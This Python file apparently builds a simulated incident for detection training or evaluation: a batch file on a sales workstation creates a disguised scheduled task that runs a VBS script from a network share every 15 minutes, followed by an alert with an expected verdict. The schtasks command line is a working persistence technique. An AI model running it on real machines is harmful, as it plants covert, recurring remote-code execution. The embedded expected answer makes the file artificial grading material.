"""On wks-sales-05 a batch file makes a scheduled task that will run a script from a share (T1053.005)."""

from local.incidents.case import Case, Expectation, process_evidence, user_evidence
from local.incidents.estate import SELLER
from local.incidents.programs import program
from local.incidents.stage import Stage, as_user, clock, later
from local.incidents.world import Process


def tell(stage: Stage) -> None:
    """Records the batch file's doings and raises the alert."""
    record, born = stage.recorder, clock("08:12:05.7702264")
    explorer = stage.estate.resident("wks-sales-05", "explorer.exe")
    batch = record.start(
        explorer,
        program("windows", "cmd.exe"),
        f'cmd.exe /c "{as_user(SELLER)}\\Desktop\\setup.cmd"',
        at=born,
    )
    record.start(batch, program("windows", "conhost.exe"), "conhost.exe 0x4", at=later(born, 0.0211))
    line = (
        "schtasks.exe /create /tn \\Microsoft\\Windows\\Sync\\Refresh /sc minute /mo 15 "
        '/tr "wscript.exe //B \\\\10.20.8.10\\public\\r.vbs"'
    )
    task = record.start(batch, program("windows", "schtasks.exe"), line, at=later(born, 0.6640918))
    record.image_load(task, later(born, 0.7), program("windows", "taskschd.dll"))
    note = '{"TaskName":"\\\\Microsoft\\\\Windows\\\\Sync\\\\Refresh","TaskContent":"<Task/>"}'
    record.event(
        "DeviceEvents", task, later(born, 0.8811), "ScheduledTaskCreated", {"AdditionalFields": note}
    )
    _alert_on_task(stage, task, born)


def _alert_on_task(stage: Stage, task: Process, born: int) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious scheduled task",
            description="A task that runs a script from a share was created.",
            severity="Medium",
            category="Persistence",
            device=task.device,
            first=born,
            last=later(born, 0.9),
            created=clock("08:14:00.0000001"),
            evidence=(process_evidence(task), user_evidence(SELLER)),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The task was made, and nothing removed it.",
                anchors=(task,),
                techniques=("T1053.005",),
            ),
            incident=1050,
            techniques=("T1053.005",),
            user=SELLER,
        )
    )
